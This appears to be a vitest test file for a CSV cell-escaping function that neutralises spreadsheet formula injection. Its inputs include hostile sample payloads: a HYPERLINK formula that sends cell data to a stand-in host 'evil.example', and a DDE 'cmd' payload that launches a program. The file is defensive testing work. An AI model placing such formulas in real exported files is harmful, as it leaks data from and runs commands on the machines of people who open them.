import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvCell, csvLine } from "../../../src/domain/escape/csv-cell.ts";
import { hostileText } from "./hostile-text.ts";

/** RFC 4180, with the separator that a spreadsheet of that country uses; a quote within an unquoted cell is itself. */
function parse(line: string, separator: "," | ";" | "\t" = ","): readonly string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    let cell = "";
    if (line[at] === '"') {
      at += 1;
      while (at < line.length) {
        if (line[at] !== '"') cell += line[at];
        else if (line[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
        at += 1;
      }
      at += 1;
    }
    while (at < line.length && line[at] !== separator && line[at] !== "\r" && line[at] !== "\n") {
      cell += line[at];
      at += 1;
    }
    cells.push(cell);
    at += 1;
  }
  return cells;
}

/** What a spreadsheet might calculate, whatever it passes over before. */
const CALCULATED = /^(?:["‘-‟＂＇\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]|[\t\r\n])/u;
/** The same where another separator has torn our cells apart: a line end or tab of ours may then be where a cell begins, and is no formula. */
const FORMULA = /^["‘-‟＂＇\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

describe("REL-75: a cell that begins like a formula", () => {
  test.each<[string, string]>([
    ['=HYPERLINK("https://evil.example?"&A1,"x")', `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t'=1"`],
    ["\r=1", `"'\r'=1"`],
    ["\ttext", `"'\ttext"`],
    ["  =1", `"'  =1"`],
    ["\u00A0\u3000=1", `"'\u00A0\u3000=1"`],
    ['"=1', `"'""=1"`],
    ["'=1", `"''=1"`],
    ["“=1", `"'“=1"`],
    ["＝1", `"'＝1"`],
    ["＋1", `"'＋1"`],
    ["－1", `"'－1"`],
    ["＠x", `"'＠x"`],
    ["\u200B=1", `"'\u200B=1"`],
    ["\uFEFF\u202E=1", `"'\uFEFF\u202E=1"`],
    ["a;=1", `"a;'=1"`],
    ['a;"=1', `"a;'""=1"`],
    ["a\n=1", `"a\n'=1"`],
  ])("%j is neutralised", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test.each<[string, string]>([
    ["", '""'],
    ["fix: a = b - c", '"fix: a = b - c"'],
    ["2026-11-21T12:00:00.000Z", '"2026-11-21T12:00:00.000Z"'],
    ['he said "no", twice', '"he said ""no"", twice"'],
    ["a\nb", '"a\nb"'],
    ["a\0b\uD83D", '"a\uFFFDb\uFFFD"'],
    ["octocat", '"octocat"'],
  ])("%j stays as it is", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test("whatever was written, no program that reads the line calculates a cell, and none is lost", () => {
    const formula = fc.tuple(
      fc.constantFrom("", " ", '"', "a;", "a\n", "\u200B"),
      fc.constantFrom("=", "+", "-", "@", "＝"),
      fc.string(),
    );
    const text = fc.oneof(
      hostileText,
      formula.map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        const line = csvLine(texts);
        const cells = parse(line.slice(0, -2));
        expect(cells).toHaveLength(texts.length);
        for (const cell of cells) expect(cell).not.toMatch(CALCULATED);
        for (const [index, cell] of cells.entries()) {
          const given = texts[index]?.toWellFormed().replaceAll("\0", "\uFFFD") ?? "";
          expect(cell.replaceAll("'", "")).toBe(given.replaceAll("'", ""));
        }
        for (const separator of [";", "\t"] as const) {
          for (const cell of parse(line.slice(0, -2), separator)) expect(cell).not.toMatch(FORMULA);
        }
      }),
      { numRuns: 2_000 },
    );
  });
});

test("REL-75: a cell of 100 KB takes no time, whatever is passed over in it", () => {
  for (const piece of ["\t", ";", "; ", "\r\n", "'", ";\t=", "\u200B"]) {
    const text = piece.repeat(100_000 / piece.length);
    const since = process.threadCpuUsage();
    csvCell(text);
    const { user, system } = process.threadCpuUsage(since);
    expect((user + system) / 1_000).toBeLessThan(100);
  }
});
